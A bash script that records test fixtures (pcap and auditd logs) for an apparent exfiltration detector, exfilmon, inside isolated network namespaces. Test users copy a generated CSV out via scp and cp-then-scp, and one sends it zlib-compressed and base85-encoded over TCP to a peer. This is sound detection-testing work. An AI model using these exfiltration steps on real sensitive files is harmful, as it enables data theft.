#!/usr/bin/env bash
# Records the sensitive-file fixtures in pcaps/sensitive/: a real auditd log of reads of a
# watched CSV and the NFLOG capture of the egress that followed, made together. Run as root:
#
#   sudo pcaps/sensitive.sh
#
# Needs (Debian): auditd nftables iproute2 tcpdump openssh-server openssh-client socat python3,
# and a built exfilmon (cargo build). The committed files mean tests never run this.
#
# What happens, in order (one capture, one audit log):
#   1. exfil-alice  scp's the CSV out                                  -> sensitive_egress
#   2. exfil-bob    reads it for analysis (wc, python), then `ssh true` -> nothing
#   3. exfil-carol  cp's it to ~/notes.txt, then scp's notes.txt         -> sensitive_egress (cp)
#   4. exfil-dave   python: read, zlib + base85, send over TCP to :9000  -> sensitive_egress
#
# The CSV is /tmp/exfsen-data/sensitive1.csv (2 MiB, 0644), watched by the rules
# `exfilmon audit-rules` renders for pcaps/sensitive/exfilmon.toml. auditd runs as its own
# instance (`auditd -n -c DIR`, ENRICHED format, log in a temporary directory); a running
# system auditd is refused rather than disturbed. The ruleset is `exfilmon nft` with
# [nft] audit = true, so the log also holds NETFILTER_PKT records of the new connections.
#
# Outputs: egress.pcap (tcpdump -i nflog:7), audit.log (ENRICHED, as auditd wrote it, only
# this run's records), audit-raw.log (the same with the ENRICHED part cut at 0x1d: the RAW
# format), meta.json (uids, CSV path and size).
#
# SAFETY: traffic stays between two namespaces made here (exfsen-in 10.77.11.2 <-veth->
# exfsen-out 10.77.11.1), neither with a default route. Everything started here is stopped,
# the namespaces deleted and the audit rules removed on EXIT. The steps the capture scripts
# share (namespaces, processes, users, sshd, tcpdump) are in pcaps/lib.sh.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
NS_IN=exfsen-in
NS_OUT=exfsen-out
# shellcheck source=lib.sh
. "$HERE/lib.sh"
OUT="$HERE/sensitive"
EXFILMON="$REPO/target/debug/exfilmon"
PEER=10.77.11.1
DATA=/tmp/exfsen-data
CSV=$DATA/sensitive1.csv
USERS=(exfil-alice exfil-bob exfil-carol exfil-dave)

AUDITD=""
cleanup() {
	stop_pids PIDS
	auditctl -D -k exfilmon-sensitive >/dev/null 2>&1 || true
	if [ -n "$AUDITD" ]; then kill "$AUDITD" 2>/dev/null || true; wait "$AUDITD" 2>/dev/null || true; fi
	netns_del "$NS_IN" "$NS_OUT"
	rm -rf "$DATA"
	for u in "${USERS[@]}"; do rm -f "/home/$u/notes.txt"; done
	[ -n "$TMP" ] && rm -rf "$TMP"
	return 0
}
cleanup_on_exit cleanup

need_root "auditd, network namespaces, nft, tcpdump, test users"
[ -x "$EXFILMON" ] || (cd "$REPO" && cargo build -q)
pid=$(auditctl -s | awk '$1 == "pid" { print $2 }')
if [ "${pid:-0}" != 0 ] && [ -e "/proc/$pid" ]; then
	log "an auditd (pid $pid) is already running; stop it first (this script runs its own)"
	exit 1
fi
TMP=$(mktemp -d /tmp/exfsen.XXXXXX)
chmod 711 "$TMP"
mkdir -p "$OUT" "$DATA"

ensure_user "${USERS[@]}"

# The CSV: rows of names, e-mail addresses, amounts, dates and tokens (compresses like real CSV).
python3 - "$CSV" <<'PY'
import random, sys
random.seed(7)
names = "alice bob carol dave erin frank grace heidi ivan judy".split()
rows = ["id,name,email,amount,date,token"]
size = len(rows[0]) + 1
i = 0
while size < 2 << 20:
    a, b = random.choice(names), random.choice(names)
    row = f"{i},{a} {b},{a}.{random.randrange(997)}@example.com,{random.randrange(100000)}.{random.randrange(100):02},2026-{random.randrange(1,13):02}-{random.randrange(1,29):02},{random.getrandbits(64):016x}"
    rows.append(row)
    size += len(row) + 1
    i += 1
open(sys.argv[1], "w").write(("\n".join(rows) + "\n")[: 2 << 20])
PY
chmod 755 "$DATA"
chmod 644 "$CSV"

cat >"$OUT/exfilmon.toml" <<EOF
# The configuration the fixtures were recorded with (pcaps/sensitive.sh).
[nft]
audit = true

# The size is for replays: the CSV is deleted when the recording ends.
[sensitive]
paths = [{ path = "$CSV", size = "2MiB" }]
EOF

# auditd: own instance, ENRICHED log in $TMP.
mkdir -p "$TMP/auditd"
cat >"$TMP/auditd/auditd.conf" <<EOF
local_events = yes
write_logs = yes
log_file = $TMP/auditd/audit.log
log_format = ENRICHED
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 8
num_logs = 2
max_log_file_action = ROTATE
name_format = NONE
space_left = 75
space_left_action = SYSLOG
admin_space_left = 50
admin_space_left_action = SYSLOG
disk_full_action = SYSLOG
disk_error_action = SYSLOG
EOF
chmod 640 "$TMP/auditd/auditd.conf"
auditd -n -c "$TMP/auditd" &
AUDITD=$!
for _ in $(seq 1 100); do
	[ "$(auditctl -s | awk '$1 == "pid" { print $2 }')" = "$AUDITD" ] && break
	sleep 0.1
done
[ "$(auditctl -s | awk '$1 == "pid" { print $2 }')" = "$AUDITD" ] || { log "auditd did not start"; exit 1; }
"$EXFILMON" audit-rules --config "$OUT/exfilmon.toml" >"$TMP/exfilmon.rules"
auditctl -R "$TMP/exfilmon.rules" >/dev/null

# Namespaces (IPv4 only), sshd outside, a TCP sink on :9000, the ruleset and tcpdump inside.
netns_pair "$NS_IN" "$NS_OUT" exfsen-i exfsen-o 10.77.11.2/24 "$PEER/24"
sshd_start "$NS_OUT" "$PEER" "${USERS[@]}"
spawn ip netns exec "$NS_OUT" socat -u "TCP-LISTEN:9000,bind=$PEER,reuseaddr,fork" OPEN:/dev/null
wait_port "$NS_OUT" t 9000

inside "$EXFILMON" nft --apply --config "$OUT/exfilmon.toml"
capture_start "$TMP/egress.pcap"
sleep 1

log "1. exfil-alice: scp of the file"
as_user exfil-alice scp -q "${SSH_OPTS[@]}" -i "$TMP/exfil-alice/id" "$CSV" "exfil-alice@$PEER:$TMP/recv/alice.csv"
sleep 1
log "2. exfil-bob: reads it for analysis, then a short ssh command"
as_user exfil-bob wc -l "$CSV" >/dev/null
as_user exfil-bob python3 -c "import csv,sys; print(sum(float(r['amount']) for r in csv.DictReader(open(sys.argv[1]))))" "$CSV" >/dev/null
as_user exfil-bob ssh "${SSH_OPTS[@]}" -i "$TMP/exfil-bob/id" "exfil-bob@$PEER" true
sleep 1
log "3. exfil-carol: cp to ~/notes.txt, then scp of notes.txt"
as_user exfil-carol cp "$CSV" /home/exfil-carol/notes.txt
as_user exfil-carol scp -q "${SSH_OPTS[@]}" -i "$TMP/exfil-carol/id" /home/exfil-carol/notes.txt "exfil-carol@$PEER:$TMP/recv/carol.txt"
sleep 1
log "4. exfil-dave: python reads, compresses (zlib + base85) and sends over TCP"
cat >"$TMP/send.py" <<'PY'
import base64, socket, sys, zlib
data = base64.b85encode(zlib.compress(open(sys.argv[1], "rb").read(), 9))
with socket.create_connection((sys.argv[2], 9000)) as s:
    s.sendall(data)
PY
chmod 644 "$TMP/send.py"
as_user exfil-dave python3 "$TMP/send.py" "$CSV" "$PEER"
# NFLOG batches for up to the ruleset's timeout; auditd writes a little behind.
sleep 2
capture_stop
auditctl -D -k exfilmon-sensitive >/dev/null

# A fresh auditd instance: its log holds only this run (its start, the rules loaded, the cases).
cp "$TMP/egress.pcap" "$OUT/egress.pcap"
cp "$TMP/auditd/audit.log" "$OUT/audit.log"
chmod 644 "$OUT/audit.log"
sed 's/\x1d.*//' "$OUT/audit.log" >"$OUT/audit-raw.log"
python3 - "$OUT/meta.json" "$CSV" "${USERS[@]}" <<'PY'
import json, os, pwd, sys
out, csv, users = sys.argv[1], sys.argv[2], sys.argv[3:]
meta = {
    "made_by": "pcaps/sensitive.sh",
    "csv": csv,
    "csv_size": os.path.getsize(csv),
    "uids": {u: pwd.getpwnam(u).pw_uid for u in users},
    "expected_alerts": {"exfil-alice": "/usr/bin/scp", "exfil-carol": "/usr/bin/cp", "exfil-dave": "python3"},
    "quiet": ["exfil-bob"],
}
json.dump(meta, open(out, "w"), indent=2)
open(out, "a").write("\n")
PY
log "wrote $(ls "$OUT" | tr '\n' ' ')"
